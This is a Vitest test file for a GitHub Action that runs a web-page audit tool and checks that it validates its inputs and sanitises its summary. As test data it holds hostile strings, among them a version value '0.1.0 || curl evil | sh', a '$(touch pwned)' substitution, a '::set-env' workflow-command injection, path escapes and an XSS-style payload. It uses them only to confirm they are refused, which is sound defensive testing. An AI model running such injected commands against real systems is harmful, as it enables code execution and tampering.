import { execFile } from 'node:child_process'
import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
// @ts-expect-error a script without types of its own
import * as action from '../../scripts/action.mjs'

const { literal, summaryOf } = action as {
  literal: (text: string) => string
  summaryOf: (index: object[], results: object[], lang: 'zh-CN' | 'en') => string
}
const root = join(import.meta.dirname, '../..')
const SCRIPT = join(root, 'scripts/action.mjs')

/** Stands in the place of the command: notes what it was given, writes what a run leaves, and ends as it is told. */
const FAKE = `import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
const out = process.argv[process.argv.indexOf('--out') + 1]
const { FAKE_CODE = '1', FAKE_URL = 'https://a.example/', FAKE_REVIEWS = '1', LIANCHA_BROWSER } = process.env
writeFileSync(process.env.FAKE_SEEN, JSON.stringify({ args: process.argv.slice(2), input: readFileSync(0, 'utf8'), cwd: process.cwd(), browser: LIANCHA_BROWSER }))
process.stderr.write('::add-mask::audited\\n')
if (FAKE_CODE === '2') process.exit(2)
mkdirSync(out, { recursive: true })
const summary = { violations: 2, reviews: Number(FAKE_REVIEWS), passes: 3 }
writeFileSync(out + '/index.json', JSON.stringify([{ file: '0001-a.json', target: FAKE_URL, url: FAKE_URL, faceRequest: true, summary }]))
const result = { kind: 'fail', ruleId: 'no-refusal', message: { text: 'Agreeing is the only choice\\nmore' }, properties: { page: FAKE_URL } }
writeFileSync(out + '/liancha.sarif', JSON.stringify({ runs: [{ results: [result, { ...result, kind: 'review', ruleId: 'cross-border' }] }] }))
process.exit(Number(FAKE_CODE))
`

let folder = ''
let workspace = ''
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'liancha-action-'))
  workspace = join(folder, 'workspace')
  await mkdir(workspace)
  await writeFile(join(folder, 'fake.mjs'), FAKE)
})
afterEach(() => rm(folder, { recursive: true, force: true }))

const read = (name: string): Promise<string> => readFile(join(folder, name), 'utf8').catch(() => '')

/** Runs a step as the action does. */
async function step(name: string, env: Record<string, string> = {}, script = SCRIPT) {
  const { code, stdout, stderr } = await new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
    const surroundings = {
      PATH: process.env.PATH,
      GITHUB_WORKSPACE: workspace,
      GITHUB_OUTPUT: join(folder, 'output'),
      GITHUB_STEP_SUMMARY: join(folder, 'summary'),
      LIANCHA_COMMAND: join(folder, 'fake.mjs'),
      FAKE_SEEN: join(folder, 'seen.json'),
      LIANCHA_TARGETS: 'https://a.example/',
      ...env,
    }
    execFile(process.execPath, [script, name], { env: surroundings }, (error, out, err) =>
      resolve({ code: error ? Number(error.code) : 0, stdout: out, stderr: err }),
    )
  })
  const outputs = Object.fromEntries(
    (await read('output'))
      .split('\n')
      .filter(Boolean)
      .map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
  )
  const given = await read('seen.json')
  return { code, stdout, stderr, outputs, summary: await read('summary'), seen: given === '' ? undefined : JSON.parse(given) }
}

describe('the action', () => {
  it('runs the command on its targets and tells what came of it, and fails only in its last step', async () => {
    const { code, outputs, summary, seen } = await step('audit', {
      LIANCHA_TARGETS: '# the sign-up\nhttps://a.example/\n\n  dist/join  \r\n--help\n$(touch pwned)',
      LIANCHA_LANG: 'en',
      LIANCHA_FAIL_ON: 'moderate',
      LIANCHA_FAIL_ON_REVIEW: 'true',
      LIANCHA_BROWSER: '',
    })
    const out = join(workspace, 'liancha-reports')
    expect(code).toBe(0)
    expect(seen).toMatchObject({
      args: ['audit', '--format', 'sarif', '--out', out, '--lang', 'en', '--fail-on', 'moderate', '--fail-on-review', '-'],
      input: 'https://a.example/\ndist/join\n--help\n$(touch pwned)\n',
      cwd: workspace,
    })
    expect(seen.browser).toBeUndefined()
    expect(outputs).toEqual({ 'exit-code': '1', violations: '2', reviews: '1', reports: out, sarif: join(out, 'liancha.sarif') })
    expect(summary).toContain('Findings that do not match what a provision asks: 2; for a person to look at: 1.')
    expect(summary).toContain('Agreeing is the only choice')
    expect(summary).not.toContain('cross')
    expect((await step('finish', { LIANCHA_EXIT_CODE: outputs['exit-code']! })).code).toBe(1)
  })

  it.each([
    ['0', {}, '0'],
    ['3', {}, '3'],
    ['1', { LIANCHA_FAIL_ON: 'never' }, '0'],
    ['1', { LIANCHA_FAIL_ON: 'never', LIANCHA_FAIL_ON_REVIEW: 'true' }, '1'],
    ['1', { LIANCHA_FAIL_ON: 'never', LIANCHA_FAIL_ON_REVIEW: 'true', FAKE_REVIEWS: '0' }, '0'],
    ['3', { LIANCHA_FAIL_ON: 'never' }, '3'],
  ])('ends as the command does with %s and %j: %s', async (FAKE_CODE, env, expected) => {
    const { code, outputs } = await step('audit', { FAKE_CODE, ...env })
    expect([code, outputs['exit-code']]).toEqual([0, expected])
    expect((await step('finish', { LIANCHA_EXIT_CODE: expected })).code).toBe(Number(expected))
  })

  it('fails at once where the command was used wrongly', async () => {
    const { code, outputs, summary } = await step('audit', { FAKE_CODE: '2' })
    expect([code, outputs, summary]).toEqual([2, { 'exit-code': '2' }, ''])
  })

  it.each(['', '0; true', 'x'])('does not take %j for an exit code that is clean', async (given) => {
    expect((await step('finish', { LIANCHA_EXIT_CODE: given })).code).toBe(3)
  })

  it.each([
    ['no targets', { LIANCHA_TARGETS: '\n# none\n' }, 'There are no targets.'],
    ['a severity that is none', { LIANCHA_FAIL_ON: 'serious --out /' }, 'fail-on cannot be “serious --out /”'],
    ['a switch that is none', { LIANCHA_FAIL_ON_REVIEW: 'yes' }, 'fail-on-review cannot be “yes”'],
    ['a language that is none', { LIANCHA_LANG: 'fr' }, 'lang cannot be “fr”'],
    ['a folder elsewhere', { LIANCHA_OUT: '../../elsewhere' }, 'out has to be a folder below the workspace'],
    ['the workspace itself', { LIANCHA_OUT: '.' }, 'out has to be a folder below the workspace'],
    ['a version with more in it', { LIANCHA_VERSION: '0.1.0 || curl evil | sh' }, 'version has to be like 0.1.0'],
    ['a message with a command in it', { LIANCHA_LANG: 'en\n::set-env name=A::b' }, 'lang cannot be “en%0A::set-env name=A::b”'],
  ])('refuses %s, says what to do, and runs nothing', async (_, env, message) => {
    const { code, stdout, seen } = await step('audit', env)
    expect(code).toBe(2)
    expect(stdout).toMatch(/^::error::[^\n]*\n$/)
    expect(stdout).toContain(message)
    expect(seen).toBeUndefined()
  })

  it('does not write through a link out of the workspace', async () => {
    await symlink(folder, join(workspace, 'reports'))
    const { code, stdout, seen } = await step('audit', { LIANCHA_OUT: 'reports' })
    expect([code, seen]).toEqual([2, undefined])
    expect(stdout).toContain('out leads out of the workspace')
  })

  it('lets nothing that is printed of a page be a command, and takes none back', async () => {
    const { stdout, stderr } = await step('audit')
    const [, token] = /^::stop-commands::([0-9a-f-]{36})\n::\1::\n$/.exec(stdout) ?? []
    expect(token).toBeDefined()
    expect(stderr).toBe('::add-mask::audited\n')
  })

  it('works where it is reached by a link', async () => {
    await symlink(root, join(folder, 'linked'))
    const { outputs } = await step('audit', {}, join(folder, 'linked/scripts/action.mjs'))
    expect(outputs['exit-code']).toBe('1')
  })
})

describe('its summary', () => {
  const page = (url: string, more: object = {}) => ({ url, faceRequest: true, summary: { violations: 1, reviews: 0, passes: 0 }, ...more })

  it('makes nothing of a page’s words but words', () => {
    const hostile = '|[x](javascript:1)<img src=x onerror=1>@everyone #1 www.evil.example https://evil.example\n## `code` \u001b[2J\u202e'
    expect(literal(hostile).replace(/&#\d+;/g, '')).toMatch(/^[\p{L}\p{N} ]+$/u)
    expect(literal('www.evil.example')).toBe('www&#8203;&#46;evil&#46;example')
    const index = [page(`https://a.example/${hostile}`)]
    const results = [{ kind: 'fail', ruleId: 'no-refusal', message: { text: hostile }, properties: { page: hostile } }]
    const rows = summaryOf(index, results, 'en').split('\n')
    expect(rows.filter((row) => row.startsWith('| ')).map((row) => row.split('|').length)).toEqual([6, 6, 6])
    expect(rows.join('\n')).not.toMatch(/<img|\]\(|@everyone/)
    expect(literal('长'.repeat(300))).toBe(`${'长'.repeat(200)}&#8230;`)
  })

  it('tells pages that could not be audited first, and counts those that do not fit', () => {
    const many = Array.from({ length: 60 }, (_, at) => page(`https://a.example/${at}`))
    const text = summaryOf([...many, page('https://gone.example/', { error: { code: 'timeout' } })], [], 'zh-CN')
    const rows = text.split('\n').filter((row) => row.startsWith('| '))
    expect(rows).toHaveLength(52)
    expect(rows[2]).toContain('没有检查成')
    expect(text).toContain('还有 11 页，见报告。')
    expect(text).toContain('检查了 61 页')
  })
})

describe('action.yml', () => {
  it('gives its inputs to the script by the environment alone', async () => {
    const text = await readFile(join(root, 'action.yml'), 'utf8')
    const runs = text.split('\n').filter((line) => /^\s*(- )?run:/.test(line))
    expect(runs).toHaveLength(2)
    for (const line of runs) expect(line).toMatch(/run: node "\$GITHUB_ACTION_PATH\/scripts\/action\.mjs" (audit|finish)$/)
    const script = await readFile(SCRIPT, 'utf8')
    const named = [...text.matchAll(/(LIANCHA_\w+):/g)].map(([, name]) => name!)
    expect(named).toHaveLength(8)
    for (const name of named) expect(script, name).toContain(name)
    const written = [...text.matchAll(/steps\.audit\.outputs\.([\w-]+)/g)].map(([, name]) => name!)
    expect(new Set(written)).toEqual(new Set(['exit-code', 'violations', 'reviews', 'reports', 'sarif']))
  })
})
